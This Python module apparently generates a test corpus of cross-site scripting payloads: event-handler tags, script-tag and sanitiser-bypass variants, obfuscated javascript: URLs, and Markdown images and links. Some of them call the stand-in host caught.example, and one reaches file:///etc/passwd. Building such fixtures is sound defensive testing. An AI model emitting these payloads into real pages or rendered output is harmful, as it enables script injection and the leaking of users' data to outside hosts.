"""Texts that try to run a script, show a dialog or call somebody where they are shown: some thousands, all invented."""

from __future__ import annotations

from collections.abc import Iterator
from html import escape
from itertools import product
from urllib.parse import quote

__all__ = ["CALLED", "payloads"]

CALLED = "caught.example"  # the host that a script or a picture would call

_SCRIPTS = (
    "alert(1)",
    "alert`1`",
    "top['al'+'ert'](1)",
    f"fetch('https://{CALLED}/')",
    f"new Image().src='//{CALLED}/'",
    "document.title='caught'",
    "location='javascript:alert(1)'",
    "setTimeout('alert(1)')",
)
_EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "onbegin", "ontoggle", "onanimationstart", "onpointerenter")
_ELEMENTS = (
    *(
        "<img src=x {on}>",
        "<svg {on}>",
        "<svg/{on}>",
        "<body {on}>",
        "<input autofocus {on}>",
        "<video><source {on}></video>",
    ),
    *(
        "<details open {on}>",
        "<iframe {on}></iframe>",
        "<math {on}>",
        "<a {on} href=#>x</a>",
        "<p {on}>x</p>",
        "<audio src=x {on}>",
    ),
    *(
        "<svg><animate {on} attributeName=x dur=1s>",
        "<marquee {on}>",
        "<object data=x {on}>",
        "<select autofocus {on}>",
    ),
    *(
        "<style>@keyframes x{{}}</style><b style=animation-name:x {on}>",
        "<img/src/{on}>",
        "<IMG SRC=x {on}>",
        "<im\x00g src=x {on}>",
    ),
)
_WHOLE = (
    *(
        "<script>{js}</script>",
        "<SCRIPT>{js}</SCRIPT>",
        "<script src=//{host}/x.js></script>",
        "<scr<script>ipt>{js}</scr</script>ipt>",
    ),
    *(
        "</p><script>{js}</script>",
        "<!--><script>{js}</script>-->",
        "<![CDATA[<script>{js}</script>]]>",
        "</textarea><script>{js}</script>",
    ),
    *(
        "</title><script>{js}</script>",
        "</script><script>{js}</script>",
        "<noscript><p title='</noscript><script>{js}</script>'>",
        "<svg><script>{js}</script></svg>",
    ),
    *(
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={js}&gt;'>",
        "<template><script>{js}</script></template>",
    ),
    *(
        "<iframe srcdoc='<script>{js}</script>'></iframe>",
        "<iframe src='javascript:{js}'></iframe>",
        "<object data='javascript:{js}'></object>",
    ),
    *(
        "<embed src='javascript:{js}'>",
        "<form action='javascript:{js}'><button>x</button></form>",
        "<base href='//{host}/'>",
    ),
    *(
        "<link rel=stylesheet href=//{host}/x.css>",
        "<meta http-equiv=refresh content='0;url=//{host}/'>",
        "<style>@import '//{host}/x.css';</style>",
    ),
    *(
        "<img src=//{host}/p.png>",
        "<img srcset='//{host}/p.png 1x'>",
        "<video poster=//{host}/p.png>",
        "<body background=//{host}/p.png>",
    ),
    *(
        "<p style='background:url(//{host}/p.png)'>x</p>",
        "<svg><image href=//{host}/p.png></svg>",
        "<input type=image src=//{host}/p.png>",
    ),
    *(
        "![p](https://{host}/p.png)",
        "![p](//{host}/p.png)",
        "![p][1]\n\n[1]: https://{host}/p.png",
        "[![p](https://{host}/p.png)](https://example.org)",
    ),
    *(
        "{{{{ constructor.constructor('{js}')() }}}}",
        "{{% raw %}}{js}{{% endraw %}}",
        "${{{js}}}",
        "`<script>{js}</script>`",
        "```\n</code><script>{js}</script>\n```",
    ),
    *(
        "    </pre><script>{js}</script>",
        "> <script>{js}</script>",
        "- <script>{js}</script>",
        "1. <script>{js}</script>",
    ),
)
_LINKS = (
    *(
        "[x]({url})",
        "[x](<{url}>)",
        '[x]({url} "t")',
        "[x][1]\n\n[1]: {url}",
        "<{url}>",
        "[x]( {url} )",
        "<a href={url}>x</a>",
    ),
    *("[<b>x</b>]({url})", "*[x]({url})*", "> [x]({url})", "- [x]({url})", "[x\n]({url})", "[`x`]({url})"),
)
_SCHEMES = (
    *(
        "javascript:{js}",
        "JaVaScRiPt:{js}",
        " javascript:{js}",
        "java\tscript:{js}",
        "java\nscript:{js}",
        "&#106;avascript:{js}",
    ),
    *(
        "&#x6A;avascript:{js}",
        "javascript&colon;{js}",
        "javascript&#58;{js}",
        "\x01javascript:{js}",
        "javascript://%0a{js}",
        "vbscript:{js}",
    ),
    *(
        "data:text/html,<script>{js}</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "//{host}/x",
        "\\\\{host}\\x",
    ),
    *(
        'https://example.org/"onmouseover={js}//',
        "https://example.org/'onmouseover={js}//",
        "https://example.org/><script>{js}</script>",
    ),
    *(
        "https:javascript:{js}",
        "https://example.org/`{js}`",
        "file:///etc/passwd",
        "blob:{js}",
        "feed:javascript:{js}",
        "view-source:javascript:{js}",
    ),
)
_QUOTED = ("{}", '"{}"', "'{}'")


def payloads() -> Iterator[str]:
    """Each once."""
    return iter(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    for element, event, script, mark in product(_ELEMENTS, _EVENTS, _SCRIPTS[:4], _QUOTED[:2]):
        yield element.format(on=f"{event}={mark.format(script)}")
    for whole, script in product(_WHOLE, _SCRIPTS):
        text = whole.format(js=script, host=CALLED)
        yield text
        yield escape(text)
        yield f"\"'>{text}"
    for link, scheme, script in product(_LINKS, _SCHEMES, _SCRIPTS[:5]):
        yield link.format(url=scheme.format(js=script, host=CALLED))
    for link, script in product(_LINKS, _SCRIPTS):
        yield link.format(url=quote(f"javascript:{script}", safe=":"))
